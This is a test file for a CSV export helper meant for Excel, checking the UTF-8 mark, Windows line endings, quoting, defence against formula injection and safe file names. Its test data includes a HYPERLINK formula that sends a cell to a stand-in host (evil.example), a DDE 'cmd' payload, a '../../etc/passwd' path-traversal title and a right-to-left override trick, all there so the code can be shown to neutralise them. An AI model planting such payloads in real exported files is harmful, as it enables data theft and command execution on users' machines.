import Papa from 'papaparse'
import { type Column, csvName, csvOf } from './csv'

const columns: readonly Column<readonly [string, string]>[] = [
  { key: 'name', label: 'Name', text: ([name]) => name },
  { key: 'note', label: 'Note, long', text: ([, note]) => note },
]
const HEAD = csvOf(columns, [])
/** A cell as the file has it. */
const cellOf = (text: string) =>
  csvOf(columns, [[text, 'x']])
    .slice(HEAD.length)
    .replace(/,x\r\n$/, '')

describe('a CSV file for Excel', () => {
  it('begins with the mark of UTF-8, and ends every line as Windows does', () => {
    const csv = csvOf(columns, [
      ['广达玻璃', 'first'],
      ['B', 'second'],
    ])
    expect(csv).toBe('\uFEFFName,"Note, long"\r\n广达玻璃,first\r\nB,second\r\n')
  })

  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example/?"&A1,"ok")', `"'=HYPERLINK(""https://evil.example/?""&A1,""ok"")"`],
    ['+86 138 0000 0001', "'+86 138 0000 0001"],
    ['-1+2', "'-1+2"],
    ["-cmd|' /c calc'!A0", "'-cmd|' /c calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['＝1+1', "'＝1+1"],
    ['＠x', "'＠x"],
    [' =1+1', "' =1+1"],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r\n=1+1', `"'\r\n=1+1"`],
    ['\0=1+1', "'\0=1+1"],
    ['-', "'-"],
  ])('%j is text, not a formula', (text, written) => {
    expect(cellOf(text)).toBe(written)
  })

  it.each(['-12.5', '-1', '-25.0%', '−25.0 %', '1=1', 'a@b.example'])(
    '%s stays what it is: a number can be added up, a sign inside does nothing',
    (text) => {
      expect(cellOf(text)).toBe(text)
    },
  )

  it('keeps commas, quotes and line breaks inside their cell', () => {
    const rows = [['Zhang "Old" Wei, Foshan', 'line 1\nline 2'] as const, ['', ','] as const]
    const read = Papa.parse<string[]>(csvOf(columns, rows).slice(1), { skipEmptyLines: true }).data
    expect(read.slice(1)).toEqual(rows)
  })
})

test.each([
  ['Bills 2026/11', 'Bills 2026-11.csv'],
  ['../../etc/passwd', 'etc-passwd.csv'],
  ['账单：2026年', '账单：2026年.csv'],
  ['a\u202Egpj', 'a-gpj.csv'],
  [' ... ', 'table.csv'],
  ['', 'table.csv'],
  ['x'.repeat(300), `${'x'.repeat(80)}.csv`],
])('a file called %j is saved as %j', (title, name) => {
  expect(csvName(title)).toBe(name)
})
